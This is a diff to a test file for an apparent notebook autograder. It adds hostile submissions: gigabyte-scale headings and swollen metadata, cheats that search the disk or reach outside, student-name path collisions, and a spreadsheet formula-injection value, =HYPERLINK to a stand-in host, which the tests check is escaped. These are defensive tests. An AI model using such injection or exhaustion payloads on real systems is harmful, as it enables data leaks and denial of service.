@@ -19,6 +19,12 @@ from tests.assignments.conftest import SEED, grade, put
 
 pytestmark = pytest.mark.usefixtures("wall")
 TASK = "frame_correlate"
+SEARCHES = [  # cheats that print what they found
+    "the right answers looked for on the disk",
+    "files of the machine read",
+    "links to what is outside",
+    "the process beside it written into",
+]
 
 
 @contextlib.contextmanager
@@ -48,6 +54,20 @@ def known_cases(variant):
         for seed in _check.SEEDS
         for arguments, right in _check.drawn(exercise, np.random.default_rng(seed), variant)
     ]
+
+
+LONG_HEADING = {"cell_type": "heading", "level": 10**10, "source": "x", "metadata": {}}
+
+
+def old(cells):
+    """A notebook of the format 3, of 2014."""
+    sheet = {"metadata": {}, "cells": list(cells)}
+    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [sheet]}
+
+
+def old_cell(cell):
+    text = "input" if cell["cell_type"] == "code" else "source"
+    return {"cell_type": cell["cell_type"], text: cell["source"].splitlines(keepends=True)}
 
 
 def write_files(folder, solved, names):
@@ -101,7 +121,29 @@ def write_files(folder, solved, names):
     odd["metadata"] = {"cnnlib": {"assignment": ["x"], "seed": {}}, "kernelspec": {}}
     odd["cells"].append({"cell_type": "code", "source": "'\ud800'", "metadata": {}})
     hand_in("odd metadata", json.dumps(odd).encode())
-    full = {"ann", "zip with a way out", "zip with an absolute path", "says it is R"}
+    hand_in("a heading of a gigabyte", json.dumps(old([LONG_HEADING])).encode())
+    trap = solved("convolution")
+    trap.cells = [one for one in trap.cells if not one.metadata.nbgrader.locked]
+    trap.cells.append(nbformat.v4.new_markdown_cell("a b " * 20_000))
+    hand_in("cells like no other", json.dumps(trap).encode())
+    swollen = json.loads(right)
+    swollen["cells"][0]["metadata"] = {"nbgrader": {"grade_id": [{}] * 1_000_000}}
+    hand_in("metadata that swells", json.dumps(swollen).encode())
+    hand_in("\u674e" * 80, right)  # 240 bytes
+    # And honest ones that are odd.
+    checkpoint = ".ipynb_checkpoints/x-checkpoint.ipynb"
+    hand_in("zip of a folder", zipped(("a/x.ipynb", right), (f"a/{checkpoint}", right)), "x.zip")
+    hand_in("capital letters", right, "X.IPYNB")
+    hand_in("with a byte order mark", b"\xef\xbb\xbf" + right)
+    bare = json.loads(right) | {"metadata": None}
+    for one in bare["cells"]:
+        one["metadata"] = None
+        one["source"] = "".join(one["source"]).replace("\n\n", "\n\f\n")
+    hand_in("no metadata", json.dumps(bare).encode())
+    hand_in("version 3", json.dumps(old(map(old_cell, bare["cells"]))).encode())
+    full = {"cells like no other", "metadata that swells", "\u674e" * 80, "zip of a folder"}
+    full |= {"capital letters", "with a byte order mark", "no metadata", "version 3"}
+    full |= {"ann", "zip with a way out", "zip with an absolute path", "says it is R"}
     full.add("odd metadata")
     students = [path.name for path in folder.iterdir() if path.name not in names]
     return {name: cheats.ALL if name in full else cheats.NOTHING for name in students}
@@ -150,7 +192,7 @@ def test_no_cheat_pays(courses, solved, tmp_path, record_property, limits):
              if float(found[_grade._collect._student(name)]["total"]) != points]  # fmt: skip
     assert wrong == []
     feedback = courses("convolution") / "marks" / "convolution" / "feedback"
-    for name in ("the right answers looked for on the disk", "files of the machine read"):
+    for name in SEARCHES:
         page = feedback / f"{_grade._collect._student(name)}.html"
         assert "found []" in page.read_text(encoding="utf-8"), name
     assert not any("4321" in words for words in running())
@@ -182,22 +224,38 @@ def test_a_recognised_check_says_right_and_gives_nothing(solved):
         ("eve_2_77_bob_3_99_x.ipynb", "2"),
         ("Task 1_eve_attempt_2026-10-05-14-33-12_bob_attempt_2027-01-01-00-00-00_x.ipynb", "eve"),
         ("Task 1_eve_attempt_2026-10-05-14-33-12_bob_3_99_x.ipynb", "eve"),
+        ("Eve E_2_assignsubmission_file_/a/b/3.ipynb", "2"),
+        ("Eve E_2_assignsubmission_file_/Bob_3_assignsubmission_file_/x.ipynb", "2"),
+        ("eve/convolution/a/bob.ipynb", "eve"),
+        ("eve/bob/convolution/bob.ipynb", "eve"),
     ],
 )
 def test_nobody_hands_in_for_another(tmp_path, path, student):
+    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
     (tmp_path / path).touch()
     found, _ = _grade._collect.submissions(tmp_path)
     assert list(found) == [student]
 
 
+def test_different_students_stay_different(tmp_path):
+    names = ["Ann Lee", "Ann_Lee", "Ann?Lee", "Ann*Lee", ".Ann Lee", "A" * 120, "A" * 119, "\u674e"]
+    for name in names:
+        (tmp_path / "x" / name).mkdir(parents=True)
+        (tmp_path / "x" / name / "x.ipynb").touch()
+    found, _ = _grade._collect.submissions(tmp_path / "x")
+    assert len(found) == len(names) - 1  # what is hidden is not looked at
+    assert all(len(f"{student}.html.partial".encode()) < 255 for student in found)
+
+
 def test_a_formula_in_an_answer_is_text(courses, solved, tmp_path):
     notebook = solved("convolution")
     (cell,) = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("points") == 5]
-    cell.source = '=HYPERLINK("http://x.example/"&A1)'
+    cell.source = 'So:\n=HYPERLINK("http://x.example/"&A1);+1\n\t-1\n\uff1d1'
     (tmp_path / "eve").mkdir()
     nbformat.write(notebook, tmp_path / "eve" / "x.ipynb")
     grade(tmp_path, courses("convolution"))
     path = courses("convolution") / "marks" / "convolution" / "manual.csv"
     with path.open(encoding="utf-8", newline="") as file:
         (row,) = csv.DictReader(file)
-    assert row["answer"] == "'" + cell.source
+    began = [line.lstrip()[:2] for line in row["answer"].replace(";", "\n").split("\n")]
+    assert began == ["So", "'=", "'+", "'-", "'\uff1d"]
